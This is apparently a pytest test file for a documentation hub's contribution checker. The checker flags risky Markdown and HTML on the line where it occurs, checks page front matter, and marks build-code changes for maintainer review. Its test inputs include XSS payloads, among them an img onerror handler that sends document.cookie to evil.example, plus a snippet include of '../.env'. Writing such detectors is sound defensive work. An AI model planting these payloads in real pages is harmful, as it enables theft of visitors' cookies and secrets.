"""`openbook check` on contributions: risky Markdown with file:line, and code changes that need a maintainer."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from gitrepo import GitRepo
from openbook import cli, settings
from openbook.contribution import check, scan as contribution
from openbook.contribution.scan import Layout, classify, front_matter_problems, new_risks, scan_markdown

# Each of these builds hubs; `python3 dev.py test --quick` leaves them out.
pytestmark = pytest.mark.slow

FIXTURE = Path(__file__).resolve().parents[1] / "hub"


def rules(text: str) -> list[tuple[int, str]]:
    return [(risk.line, risk.rule) for risk in scan_markdown(text)]


# --- scanning Markdown ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("markdown", "rule"),
    [
        ("<script>alert(1)</script>", "content.tag.script"),
        ('<iframe src="https://evil.example"></iframe>', "content.tag.iframe"),
        ("<style>body{display:none}</style>", "content.tag.style"),
        ('<form action="https://evil.example"><input name=card></form>', "content.tag.form"),
        ("<svg onload=alert(1)>", "content.tag.svg"),
        ('<img src=x onerror="alert(1)">', "content.event-handler"),
        ("<a href=# OnMouseOver=alert(1)>hover</a>", "content.event-handler"),
        ("[click](javascript:alert(1))", "content.unsafe-link"),
        ("[click]( JaVaScRiPt:alert(1))", "content.unsafe-link"),
        ("[click](jav&#x61;script:alert(1))", "content.unsafe-link"),
        ("[click](data:text/html;base64,PHNjcmlwdD4=)", "content.unsafe-link"),
        ("[ref]: vbscript:msgbox", "content.unsafe-link"),
        ("<javascript:alert(1)>", "content.unsafe-link"),
        ('<a href="java\tscript:alert(1)">x</a>', "content.unsafe-link"),
        ("Click me{: onclick=\"alert(1)\" }", "content.attr-list-handler"),
        ("[x](https://ok.example){ onmouseover=alert(1) }", "content.attr-list-handler"),
        ('[x](#){ href="javascript:alert(1)" }', "content.unsafe-link"),
        ('--8<-- "../.env"', "content.snippet-include"),
        ("Some <kbd>Ctrl</kbd> text", "content.raw-html"),
    ],
)
def test_each_risky_construct_is_flagged_on_its_line(markdown, rule):
    text = f"# Title\n\nIntro.\n\n{markdown}\n"

    assert (5, rule) in rules(text)


def test_dangerous_constructs_are_errors_and_plain_raw_html_is_a_warning():
    levels = {risk.rule: risk.level for risk in scan_markdown("<b>bold</b>\n<script>x</script>\n")}

    assert levels == {"content.raw-html": "warning", "content.tag.script": "error"}


@pytest.mark.parametrize(
    "markdown",
    [
        "Plain text about your data: what we keep and why.",
        "[Our security page](practices/security.md) and [mail](mailto:a@b.example)",
        "<https://example.com/page>",
        "Inline code shows `<script>alert(1)</script>` as text.",
        "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
        "~~~\n[x](javascript:alert(1))\n~~~",
        "<!-- <script>an editor's note</script> -->",
        ';--8<-- "escaped snippet marker, shown as text"',
        "A [link](https://example.com){ .md-button }",
        "Prices go from 5 < 10 and 10 > 5.",
    ],
)
def test_safe_markdown_is_not_flagged(markdown):
    assert scan_markdown(markdown) == []


def test_an_unclosed_fence_does_not_hide_what_follows():
    # Only a closed fence is code to every parser; otherwise the script is live.
    assert (2, "content.tag.script") in rules("```\n<script>alert(1)</script>\n")


def test_a_finding_quotes_the_construct_on_one_line_without_control_characters():
    [risk] = [r for r in scan_markdown('<img src=x\n onerror="alert(1)\x1b[31m">') if r.rule == "content.event-handler"]

    assert "\x1b" not in risk.message and "\n" not in risk.message
    assert 'onerror="alert(1)[31m"' in risk.message


def test_new_risks_ignores_what_the_base_already_had_even_when_it_moved():
    before = "# Page\n\nPress <kbd>Ctrl</kbd>.\n"
    after = "# Page\n\nNew intro.\n\nPress <kbd>Ctrl</kbd>.\n\n<script>steal()</script>\n"

    assert [(r.line, r.rule) for r in new_risks(before, after)] == [(7, "content.tag.script")]


def test_the_fixture_hub_docs_have_no_risky_content():
    findings = [
        (path.name, risk.rule)
        for path in (FIXTURE / "docs").rglob("*.md")
        for risk in scan_markdown(path.read_text(encoding="utf-8"))
        if risk.level == "error"
    ]
    assert findings == []


# --- front matter ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("---\ntitle: Refunds: how they work\n---\n", (2, "error", "not valid YAML (mapping values are not allowed here)")),
        ("---\n- a list\n---\n", (2, "error", "must be key: value lines")),
        ("---\ntitle: Ok\ndescription: 42\n---\n", (3, "error", "description: expected text, found int")),
        ("---\ntitle: Ok\ntags: billing\n---\n", (3, "error", "tags: expected a list of words")),
        ("---\n\nA page that opens with a rule.\n", (1, "warning", "never ends")),
    ],
)
def test_front_matter_mkdocs_would_show_as_text_is_reported_with_its_line(text, expected):
    [(line, level, message)] = front_matter_problems(text)

    assert (line, level) == expected[:2] and expected[2] in message


def test_good_or_absent_front_matter_is_fine():
    assert front_matter_problems("---\ntitle: 'Refunds: how'\ntags: [billing]\n---\n\n# Refunds\n") == []
    assert front_matter_problems("# No front matter\n") == []


# --- what a path is --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("docs/contributing.md", "content"),
        ("docs/assets/logo.png", "content"),
        ("docs/practices/support.md", "practices"),
        ("data/pricing.yml", "pricing"),
        ("data/questions.json", "questions"),
        ("hooks/questions.py", "code"),
        ("src/openbook/check.py", "code"),
        ("overrides/main.html", "code"),
        ("mkdocs.yml", "code"),
        ("pyproject.toml", "code"),
        ("constraints.txt", "code"),
        ("package.json", "code"),
        ("package-lock.json", "code"),
        ("uv.lock", "code"),
        (".github/workflows/deploy.yml", "code"),
        (".github/CODEOWNERS", "code"),
        ("docs/javascripts/extra.js", "code"),
        ("docs/badge.svg", "code"),
        ("docs/page.html", "code"),
        ("inherited.yml", "code"),
        ("sitecustomize.py", "code"),
        ("README.md", "other"),
        ("LICENSE", "other"),
    ],
)
def test_paths_are_sorted_into_what_their_review_needs(path, kind):
    assert classify(path, Layout()) == kind


def test_the_layout_follows_the_hubs_own_settings():
    layout = Layout.from_raw({"docs_dir": "content", "extra": {"openbook": {"pricing": {"source": "prices.yml"}}}})

    assert classify("content/practices/a.md", layout) == "practices"
    assert classify("prices.yml", layout) == "pricing"
    assert classify("docs/a.md", layout) == "code"


# --- openbook check on a repository ------------------------------------------------------


@pytest.fixture
def hub(copy_hub) -> GitRepo:
    return GitRepo.hub(copy_hub)


CHECKERS = [contribution.check_front_matter, contribution.check_risky_markdown, contribution.check_code_changes]


def run_checkers(hub: GitRepo, base: str | None):
    config = settings.load(hub.config_file)
    return check.run(config, base=base, checkers=CHECKERS)


def test_check_base_flags_a_risky_html_edit_on_the_changed_line_only(hub):
    # Raw HTML that was already on main is not this change's finding.
    hub.replace("docs/contributing.md", "## What happens next", "Press <kbd>Enter</kbd>.\n\n## What happens next")
    hub.commit("Accepted earlier: a kbd tag")
    hub.branch("proposal")
    hub.replace("docs/practices/refunds.md", "# Refunds and cancellations",
                '# Refunds and cancellations\n\n<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">')
    hub.commit("Clarify refunds")

    findings = run_checkers(hub, base="main")

    assert [(f.file, f.line, f.rule, f.level) for f in findings] == [
        ("docs/practices/refunds.md", line_of(hub, "docs/practices/refunds.md", "<img"), "content.event-handler", "error"),
        ("docs/practices/refunds.md", line_of(hub, "docs/practices/refunds.md", "<img"), "content.raw-html", "warning"),
    ]


def line_of(hub: GitRepo, path: str, needle: str) -> int:
    return next(n for n, line in enumerate(hub.read(path).splitlines(), 1) if needle in line)


def test_check_base_flags_a_hooks_edit_as_a_code_change_for_a_maintainer(hub):
    hub.branch("proposal")
    hub.write("hooks/engine.py", hub.read("hooks/engine.py") + "\nimport os  # harmless?\n")
    hub.write("docs/contributing.md", hub.read("docs/contributing.md") + "\nOne more line.\n")
    hub.commit("Tweak a hook")

    findings = run_checkers(hub, base="main")

    assert [(f.file, f.rule, f.level) for f in findings] == [("hooks/engine.py", "contribution.code", "warning")]
    assert "maintainer" in findings[0].message


def test_check_base_counts_uncommitted_and_untracked_files(hub):
    hub.branch("proposal")
    hub.write("docs/new-page.md", "# New\n\n[x](javascript:alert(1))\n")

    findings = run_checkers(hub, base="main")

    assert [(f.file, f.line, f.rule) for f in findings] == [("docs/new-page.md", 3, "content.unsafe-link")]


def test_check_base_flags_broken_front_matter_in_a_touched_page(hub):
    hub.branch("proposal")
    hub.replace("docs/contributing.md", "title: How to propose a change", "title: Propose: a change")
    hub.commit("Retitle")

    findings = run_checkers(hub, base="main")

    assert [(f.file, f.line, f.rule, f.level) for f in findings] == [("docs/contributing.md", 2, "content.front-matter", "error")]


def test_check_without_base_scans_every_docs_page(hub):
    hub.write("docs/practices/security.md", hub.read("docs/practices/security.md") + "\n<script>x()</script>\n")

    findings = run_checkers(hub, base=None)

    assert [(f.file, f.rule) for f in findings] == [("docs/practices/security.md", "content.tag.script")]


def test_check_cli_writes_github_annotations_and_exits_1_on_risky_content(hub, capsys):
    hub.branch("proposal")
    hub.replace("docs/contributing.md", "## What happens next", "<script>alert(1)</script>\n\n## What happens next")
    hub.write("hooks/extra.py", "print('hi')\n")
    hub.commit("A risky change")
    line = line_of(hub, "docs/contributing.md", "<script>")

    code = cli.main(["check", "-f", str(hub.config_file), "--base", "main", "--format", "github"])

    out = capsys.readouterr().out.splitlines()
    assert code == cli.EXIT_FAILED
    # Errors first, then warnings.
    assert out[0] == (f"::error file=docs/contributing.md,line={line},title=html.script::page contributing/ would "
                      "publish a script: <script>alert(1); the base site has nothing like it. Remove it, or write it "
                      "in plain Markdown")
    assert (
        "::warning file=hooks/extra.py,title=contribution.code::code change (added): this file runs in or "
        "configures the build, so a maintainer must review it (see CODEOWNERS); this check built the content "
        "with the base branch's code"
    ) in out


def test_check_cli_json_lists_findings_and_exits_0_when_only_warnings(hub, capsys):
    hub.branch("proposal")
    hub.write("mkdocs.yml", hub.read("mkdocs.yml") + "\n# a comment\n")
    hub.commit("Touch the config")

    code = cli.main(["check", "-f", str(hub.config_file), "--base", "main", "--format", "json"])

    report = json.loads(capsys.readouterr().out)
    assert code == cli.EXIT_OK
    assert report["errors"] == 0
    assert [(f["file"], f["rule"]) for f in report["findings"] if f["rule"].startswith("contribution.")] == [
        ("mkdocs.yml", "contribution.code")]


def test_check_cli_with_an_unknown_base_is_a_usage_error(hub, capsys):
    code = cli.main(["check", "-f", str(hub.config_file), "--base", "origin/nowhere"])

    err = capsys.readouterr().err
    assert code == cli.EXIT_USAGE
    assert "unknown git ref 'origin/nowhere'" in err and "git fetch" in err
